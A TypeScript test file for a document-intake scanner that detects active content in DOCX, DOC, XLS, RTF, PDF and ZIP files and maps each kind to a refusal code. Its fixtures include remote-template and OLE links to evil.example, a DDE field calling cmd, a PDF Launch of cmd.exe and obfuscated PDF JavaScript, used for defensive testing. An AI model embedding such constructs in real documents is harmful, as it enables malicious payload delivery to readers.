import assert from "node:assert/strict";
import type { ActiveKind } from "../../../src/domain/files/active-content.ts";
import { pdfWithFile } from "../../support/eicar-files.ts";
import { compoundFixture, useInspection, wordFixture } from "../../support/inspection-in-use.ts";
import { rawPdf } from "../../support/raw-pdf.ts";
import { makeOffice, makeZip } from "../../support/zip-fixture.ts";

describe("active content in files", () => {
  const { inspect, refusal } = useInspection();
  const rels = (type: string, target: string) =>
    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
  const docx = (name: string, content: string) => makeOffice("docx", ["A"], [{ name, content }]);
  const cases: readonly (readonly [
    what: string,
    name: string,
    bytes: () => Buffer | Promise<Buffer>,
    kind: ActiveKind | null,
  ])[] = [
    [
      "a template from elsewhere",
      "a.docx",
      () => docx("word/_rels/settings.xml.rels", rels("attachedTemplate", "https://evil.example/t.dotm")),
      "remoteTemplate",
    ],
    [
      "a template on a share",
      "a.docx",
      () => docx("word/_rels/settings.xml.rels", rels("attachedTemplate", "file:///\\\\10.0.0.9\\t.dotm")),
      "remoteTemplate",
    ],
    [
      "a template in the writer's own folder",
      "a.docx",
      () =>
        docx("word/_rels/settings.xml.rels", rels("attachedTemplate", "file:///C:\\Users\\Lan\\Normal.dotm")),
      null,
    ],
    [
      "an object that is fetched",
      "a.docx",
      () => docx("word/_rels/document.xml.rels", rels("oleObject", "http://evil.example/a.rtf")),
      "remoteTemplate",
    ],
    [
      "a picture from elsewhere",
      "a.docx",
      () => docx("word/_rels/document.xml.rels", rels("image", "https://example.vn/logo.png")),
      "externalLinks",
    ],
    [
      "a link that a reader presses",
      "a.docx",
      () => docx("word/_rels/document.xml.rels", rels("hyperlink", "https://chinhphu.vn")),
      null,
    ],
    [
      "a workbook behind a chart",
      "a.docx",
      () => docx("word/embeddings/Microsoft_Excel_Sheet1.xlsx", "x"),
      null,
    ],
    ["an OLE object", "a.docx", () => docx("word/embeddings/oleObject1.bin", "x"), "objects"],
    ["a control", "a.docx", () => docx("word/activeX/activeX1.xml", "<x/>"), "objects"],
    [
      "a field that asks a program",
      "a.docx",
      () =>
        docx("word/header1.xml", "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText>"),
      "launch",
    ],
    [
      "macros of Excel 4",
      "a.xlsx",
      () => makeOffice("xlsx", [], [{ name: "xl/macrosheets/sheet1.xml", content: "<x/>" }]),
      "macros",
    ],
    [
      "macros in a file within an archive",
      "a.zip",
      () =>
        makeZip([
          {
            name: "a.docm",
            content: makeOffice("docm", [], [{ name: "word/vbaProject.bin", content: "x" }]),
          },
        ]),
      "macros",
    ],
    [
      "macros in a DOC",
      "a.doc",
      () => compoundFixture({ "/WordDocument": wordFixture(), "/Macros/VBA/dir": Buffer.alloc(10) }),
      "macros",
    ],
    [
      "an object in a DOC",
      "a.doc",
      () => compoundFixture({ "/WordDocument": wordFixture(), "/ObjectPool/_1/\u0001Ole": Buffer.alloc(10) }),
      "objects",
    ],
    [
      "macros of Excel 4 in an XLS",
      "a.xls",
      () => compoundFixture({ "/Workbook": Buffer.from("0908040000000500850008000000000000010161", "hex") }),
      "macros",
    ],
    [
      "an object in an RTF",
      "a.rtf",
      () => Buffer.from("{\\rtf1{\\object\\objemb{\\*\\objdata 01}}}"),
      "objects",
    ],
    [
      "a template in an RTF",
      "a.rtf",
      () => Buffer.from("{\\rtf1{\\*\\template http://evil.example/a.dot}}"),
      "remoteTemplate",
    ],
    [
      "JavaScript in a PDF",
      "a.pdf",
      () => rawPdf({ catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>" }),
      "scripts",
    ],
    [
      "JavaScript written another way",
      "a.pdf",
      () => rawPdf({ catalog: "/OpenAction << /S /J#61vaScrip#74 /JS (1) >>" }),
      "scripts",
    ],
    [
      "JavaScript in a stream of objects",
      "a.pdf",
      () => rawPdf({ objectStream: "<< /S /JavaScript /JS (1) >>" }),
      "scripts",
    ],
    [
      "a command in a PDF",
      "a.pdf",
      () => rawPdf({ catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }),
      "launch",
    ],
    ["a file within a PDF", "a.pdf", () => pdfWithFile("a.txt", "a"), "embeddedFiles"],
    [
      "a form that is sent",
      "a.pdf",
      () => rawPdf({ catalog: "/AA << /S /SubmitForm /F (http://x) >>" }),
      "externalLinks",
    ],
    [
      "a PDF with JavaScript within an archive",
      "a.zip",
      () => makeZip([{ name: "a.pdf", content: rawPdf({ catalog: "/OpenAction << /S /JavaScript >>" }) }]),
      "scripts",
    ],
  ];
  for (const [what, name, bytes, kind] of cases) {
    it(`finds ${what}${kind === null ? " harmless" : ""}`, async () => {
      const role = name.endsWith(".zip") ? "attachment" : "main";
      const facts = await inspect(name, await bytes(), role, undefined, []);
      assert.deepEqual(facts.active, kind === null ? [] : [kind]);
    });
  }

  it("is refused where the agency says so, each kind in its own words", async () => {
    const codes = new Set<string>();
    for (const [, name, bytes, kind] of cases) {
      if (kind === null) continue;
      const role = name.endsWith(".zip") ? "attachment" : "main";
      codes.add(await refusal(name, await bytes(), role, undefined, [kind]));
    }
    assert.deepEqual(
      [...codes].toSorted((a, b) => a.localeCompare(b)),
      ["embedded-files", "external-links", "launch", "macros", "objects", "remote-template", "scripts"].map(
        (code) => `intake.${code}`,
      ),
    );
  });
});
